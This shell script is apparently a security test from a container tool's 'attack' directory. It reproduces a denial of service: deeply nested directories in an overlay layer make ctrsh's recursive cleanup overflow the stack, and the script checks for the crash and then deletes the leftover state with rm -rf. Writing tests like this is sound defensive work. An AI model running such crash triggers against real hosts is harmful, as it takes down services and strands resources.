#!/bin/sh
# A container nests 25000 directories in its `--overlay` upper layer (mkdir
# d; chdir d — relative, so PATH_MAX is no limit). When the session ends,
# FileTree.removeTree recurses once per level (a stack frame and an open
# descriptor each) and ctrsh dies of a stack overflow (SIGSEGV), leaving
# its cgroups, state and the layer behind. `gc` removes a dead session's
# layer with the same function (StateDirectory.swift), so it would crash
# on it too. With a soft RLIMIT_NOFILE of 1024 the recursion stops at
# EMFILE instead: no crash, but the layer can never be removed.
#
# Usage: attack/deep-tree.sh CTRSH BUSYBOX_ROOT [DEPTH]   (exit 0 = crashed)
# Cleans up what the crashed session leaves (its own session only).
set -u
ctrsh=${1:?ctrsh}; root=${2:?busybox root}; depth=${3:-25000}
gcc -static -o "$root/bin/deepc" "$(dirname "$0")/deep-tree.c" || exit 2
"$ctrsh" -c "ns new pid,uts,ipc,net,mnt; rootfs use $root --overlay; exec /bin/deepc $depth" > /tmp/deep-tree.$$.log 2>&1 &
pid=$!; wait $pid; rc=$?
rm -f "$root/bin/deepc"
grep -m1 "crashed" /tmp/deep-tree.$$.log; rm -f /tmp/deep-tree.$$.log
left=0; [ -e /var/lib/ctrsh/overlay/$pid ] && left=1
rm -rf /var/lib/ctrsh/overlay/$pid /run/ctrsh/$pid
for c in /sys/fs/cgroup/*/ctrsh/$pid; do [ -d "$c" ] && find "$c" -depth -type d -exec rmdir {} \; ; done
echo "ctrsh exit status $rc; layer left behind: $left"
[ $rc -ge 128 ]
